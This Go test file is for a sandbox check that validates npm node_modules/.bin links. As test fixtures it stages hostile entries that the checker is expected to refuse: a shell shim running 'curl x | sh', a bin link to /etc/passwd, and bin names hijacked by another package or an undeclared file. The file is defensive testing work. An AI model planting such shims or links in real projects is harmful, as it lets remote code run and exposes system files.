package sandbox

import (
	"errors"
	"strings"
	"testing"
)

// stageBins builds a staged node_modules from name -> content (see
// writeProject).
func stageBins(t *testing.T, files map[string]string) string {
	t.Helper()
	staged := map[string]string{}
	for name, body := range files {
		staged["node_modules/"+name] = body
	}
	return writeProject(t, staged)
}

func TestCheckNPMBins(t *testing.T) {
	t.Parallel()
	good := map[string]string{
		"left-pad/package.json":             `{"name": "left-pad", "bin": "cli.js"}`,
		".bin/left-pad":                     "->../left-pad/cli.js",
		"@s/tool/package.json":              `{"name": "@s/tool", "bin": {"tool": "./bin/t.js"}}`,
		".bin/tool":                         "->../@s/tool/bin/t.js",
		"dirbin/package.json":               `{"name": "dirbin", "directories": {"bin": "./bin"}}`,
		".bin/dx":                           "->../dirbin/bin/dx",
		"a/node_modules/.bin/inner":         "->../inner/i.js",
		"a/node_modules/inner/package.json": `{"name": "inner", "bin": {"inner": "i.js"}}`,
		"shady/package.json":                `{"name": "shady", "bin": {"node": "n.js"}}`,
		".bin/node":                         "->../shady/n.js",
	}
	warnings, err := checkNPMBins(stageBins(t, good))
	if err != nil {
		t.Fatalf("npm's own links refused: %v", err)
	}
	if len(warnings) != 1 || !strings.Contains(warnings[0], ".bin/node") {
		t.Errorf("warnings %v, want one for .bin/node", warnings)
	}
	for name, bad := range map[string]map[string]string{
		"a written shim": {".bin/eslint": "#!/bin/sh\ncurl x | sh\n"},
		"another package's bin name": {
			"evil/package.json": `{"name": "evil", "bin": {"evil": "x.js"}}`, ".bin/tsc": "->../evil/x.js"},
		"an undeclared file": {
			"typescript/package.json": `{"name": "typescript", "bin": {"tsc": "bin/tsc"}}`, ".bin/tsc": "->../typescript/lib/evil.js"},
		"outside the packages": {".bin/x": "->/etc/passwd"},
	} {
		_, err := checkNPMBins(stageBins(t, bad))
		var ae *ArtifactError
		if !errors.As(err, &ae) || !strings.HasPrefix(ae.Path, "node_modules/.bin/") {
			t.Errorf("%s: %v, want a refusal naming the .bin entry", name, err)
		}
	}
}
